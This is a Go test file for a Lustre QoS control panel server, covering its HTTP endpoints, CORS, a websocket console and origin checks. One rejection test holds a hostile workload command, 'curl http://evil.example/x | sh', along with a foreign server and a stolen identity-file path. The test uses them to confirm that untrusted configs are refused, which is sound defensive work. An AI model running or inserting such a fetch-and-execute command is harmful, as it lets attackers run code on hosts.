package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"
	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"
	"go.uber.org/zap/zaptest"

	"github.com/donomii/qospanel/console"
	"github.com/donomii/qospanel/qos"
	"github.com/donomii/qospanel/testenv"
	"github.com/donomii/qospanel/wire"
)

func testConfig() qos.Config {
	cfg := qos.Config{
		Fsname:  "lustre",
		Servers: []string{"mds1", "oss1"},
		Rules: []qos.Rule{
			{Name: "dd.1", Expression: "dd.1", Rate: 200},
			{Name: "dd.0", Expression: "dd.0", Rate: 100},
			{Name: "cp.0", Expression: "cp.0", Rate: 50},
		},
	}
	cfg.Normalize()
	return cfg
}

func newTestServer(t *testing.T, run console.RunFunc) (*Server, *httptest.Server) {
	t.Helper()
	s, err := NewServer(ServerOpts{
		Config: testConfig(),
		Logger: zaptest.NewLogger(t).Sugar(),
		Run:    run,
	})
	require.NoError(t, err)
	srv := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		s.Stop()
		srv.Close()
		http.DefaultClient.CloseIdleConnections()
	})
	return s, srv
}

func getJSON(t *testing.T, url string, v interface{}) *http.Response {
	t.Helper()
	resp, err := http.Get(url)
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, "application/json", resp.Header.Get("Content-Type"))
	require.NoError(t, json.NewDecoder(resp.Body).Decode(v))
	return resp
}

func TestStatusEndpoint(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	_, srv := newTestServer(t, nil)

	var status map[string]interface{}
	resp := getJSON(t, srv.URL+"/status", &status)

	require.Equal(t, "qospanel", status["service"])
	require.Equal(t, "lustre", status["fsname"])
	require.Equal(t, float64(3), status["rules"])
	require.Equal(t, float64(0), status["sessions"])
	require.Equal(t, "*", resp.Header.Get("Access-Control-Allow-Origin"))
}

func TestConfigEndpointMatchesPanelConfig(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	_, srv := newTestServer(t, nil)

	var cfg qos.Config
	getJSON(t, srv.URL+"/api/config", &cfg)

	require.Equal(t, testConfig(), cfg)
}

func TestRulesByPrefix(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	_, srv := newTestServer(t, nil)

	var rules []qos.Rule
	getJSON(t, srv.URL+"/api/qos/rules?prefix=dd", &rules)
	require.Equal(t, []qos.Rule{
		{Name: "dd_0", Expression: "dd.0", Rate: 100},
		{Name: "dd_1", Expression: "dd.1", Rate: 200},
	}, rules)

	getJSON(t, srv.URL+"/api/qos/rules?prefix=zz", &rules)
	require.Empty(t, rules)

	getJSON(t, srv.URL+"/api/qos/rules", &rules)
	require.Len(t, rules, 3)
}

func TestPreflightAndMethodNotAllowed(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	_, srv := newTestServer(t, nil)

	req, err := http.NewRequest(http.MethodOptions, srv.URL+"/status", nil)
	require.NoError(t, err)
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, "86400", resp.Header.Get("Access-Control-Max-Age"))

	resp, err = http.Post(srv.URL+"/api/config", "application/json", strings.NewReader("{}"))
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusMethodNotAllowed, resp.StatusCode)
}

func TestIndexAndUnknownPath(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	_, srv := newTestServer(t, nil)

	resp, err := http.Get(srv.URL + "/")
	require.NoError(t, err)
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Contains(t, string(body), `id="content"`)

	resp, err = http.Get(srv.URL + "/nope")
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusNotFound, resp.StatusCode)
}

func TestConsoleSessionThroughServer(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	s, srv := newTestServer(t, func(ctx context.Context, cfg qos.Config, w io.Writer) error {
		fmt.Fprintf(w, "planning %s\n", cfg.Fsname)
		return nil
	})

	url := "ws" + strings.TrimPrefix(srv.URL, "http") + wire.Path
	conn, _, err := websocket.DefaultDialer.Dial(url, http.Header{"Origin": {srv.URL}})
	require.NoError(t, err)
	defer conn.Close()
	cfg := testConfig()
	cfg.DryRun = true
	require.NoError(t, conn.WriteJSON(cfg))

	var text strings.Builder
	require.NoError(t, conn.SetReadDeadline(time.Now().Add(10*time.Second)))
	for {
		_, data, err := conn.ReadMessage()
		if err != nil {
			require.True(t, websocket.IsCloseError(err, websocket.CloseNormalClosure), "unexpected error: %v", err)
			break
		}
		msg, err := wire.Decode(data)
		require.NoError(t, err)
		text.WriteString(msg.Console)
	}
	require.Contains(t, text.String(), "planning lustre\n")

	require.Eventually(t, func() bool { return s.console.Sessions().Len() == 0 }, 5*time.Second, 10*time.Millisecond)
	var snap struct {
		Counters map[string]int64 `json:"counters"`
	}
	getJSON(t, srv.URL+"/api/metrics", &snap)
	require.Positive(t, snap.Counters["console.messages"])
}

func TestSessionsEndpointIsAList(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	_, srv := newTestServer(t, nil)

	resp, err := http.Get(srv.URL + "/api/sessions")
	require.NoError(t, err)
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	require.NoError(t, err)
	require.JSONEq(t, `[]`, string(body))
}

func TestDuplicateRulesRejected(t *testing.T) {
	cfg := testConfig()
	cfg.Rules = append(cfg.Rules, qos.Rule{Name: "dd_0", Expression: "x", Rate: 1})

	_, err := NewServer(ServerOpts{Config: cfg})

	require.ErrorIs(t, err, qos.ErrDuplicateRule)
}

func TestStartAndStop(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	s, err := NewServer(ServerOpts{Config: testConfig(), Logger: zaptest.NewLogger(t).Sugar()})
	require.NoError(t, err)
	require.NoError(t, s.Start())
	defer s.Stop()

	port := s.HTTPPort()
	require.GreaterOrEqual(t, port, 30000)
	require.Equal(t, fmt.Sprintf("127.0.0.1:%d", port), s.listener.Addr().String())
	require.Equal(t, fmt.Sprintf("127.0.0.1:%d", port), s.BaseAddr())
	require.True(t, s.threads.IsThreadRunning("http-server"))

	var status map[string]interface{}
	require.Eventually(t, func() bool {
		resp, err := http.Get(fmt.Sprintf("http://127.0.0.1:%d/status", port))
		if err != nil {
			return false
		}
		defer resp.Body.Close()
		return json.NewDecoder(resp.Body).Decode(&status) == nil
	}, 5*time.Second, 20*time.Millisecond)
	require.Equal(t, float64(port), status["http_port"])

	s.Stop()
	http.DefaultClient.CloseIdleConnections()
	require.False(t, s.threads.IsThreadRunning("http-server"))
}

func TestConsoleConfigFetchedFromService(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	_, srv := newTestServer(t, nil)

	source, err := consoleConfigSource("", "ws"+strings.TrimPrefix(srv.URL, "http")+wire.Path)
	require.NoError(t, err)
	got, err := source()
	require.NoError(t, err)

	raw, ok := got.(json.RawMessage)
	require.True(t, ok)
	var cfg qos.Config
	require.NoError(t, json.Unmarshal(raw, &cfg))
	require.Equal(t, testConfig(), cfg)
}

func TestConsoleRejectsForeignOrigin(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	ran := make(chan struct{}, 1)
	s, srv := newTestServer(t, func(ctx context.Context, cfg qos.Config, w io.Writer) error {
		ran <- struct{}{}
		return nil
	})

	url := "ws" + strings.TrimPrefix(srv.URL, "http") + wire.Path
	conn, resp, err := websocket.DefaultDialer.Dial(url, http.Header{"Origin": {"http://evil.example"}})
	if conn != nil {
		conn.Close()
	}
	require.ErrorIs(t, err, websocket.ErrBadHandshake)
	require.NotNil(t, resp)
	resp.Body.Close()
	require.Equal(t, http.StatusForbidden, resp.StatusCode)
	require.Zero(t, s.console.Sessions().Len())
	require.Empty(t, ran)
}

func TestConsoleRejectsUntrustedConfig(t *testing.T) {
	t.Cleanup(func() { goleak.VerifyNone(t) })
	testenv.RequireLoopback(t)
	ran := make(chan struct{}, 1)
	_, srv := newTestServer(t, func(ctx context.Context, cfg qos.Config, w io.Writer) error {
		ran <- struct{}{}
		return nil
	})

	for name, mutate := range map[string]func(*qos.Config){
		"workload": func(c *qos.Config) { c.Workload.Command = "curl http://evil.example/x | sh" },
		"servers":  func(c *qos.Config) { c.Servers = []string{"10.0.0.9"} },
		"identity": func(c *qos.Config) { c.SSHIdentityFile = "/tmp/stolen" },
	} {
		t.Run(name, func(t *testing.T) {
			url := "ws" + strings.TrimPrefix(srv.URL, "http") + wire.Path
			conn, _, err := websocket.DefaultDialer.Dial(url, nil)
			require.NoError(t, err)
			defer conn.Close()

			cfg := testConfig()
			mutate(&cfg)
			require.NoError(t, conn.WriteJSON(cfg))

			require.NoError(t, conn.SetReadDeadline(time.Now().Add(10*time.Second)))
			_, data, err := conn.ReadMessage()
			require.NoError(t, err)
			msg, err := wire.Decode(data)
			require.NoError(t, err)
			require.True(t, strings.HasPrefix(msg.Console, "invalid configuration: "), "got %q", msg.Console)
			require.Contains(t, msg.Console, "does not match the service configuration")

			_, _, err = conn.ReadMessage()
			require.True(t, websocket.IsCloseError(err, websocket.CloseNormalClosure), "unexpected error: %v", err)
		})
	}
	require.Empty(t, ran)
}

func TestBaseAddrForWildcardBind(t *testing.T) {
	s, err := NewServer(ServerOpts{Listen: "0.0.0.0", HTTPPort: 31234})
	require.NoError(t, err)
	require.Equal(t, "127.0.0.1:31234", s.BaseAddr())

	s, err = NewServer(ServerOpts{Listen: "::1", HTTPPort: 31234})
	require.NoError(t, err)
	require.Equal(t, "[::1]:31234", s.BaseAddr())

	s, err = NewServer(ServerOpts{HTTPPort: 31234})
	require.NoError(t, err)
	require.Equal(t, DefaultListenHost, s.opts.Listen)
}
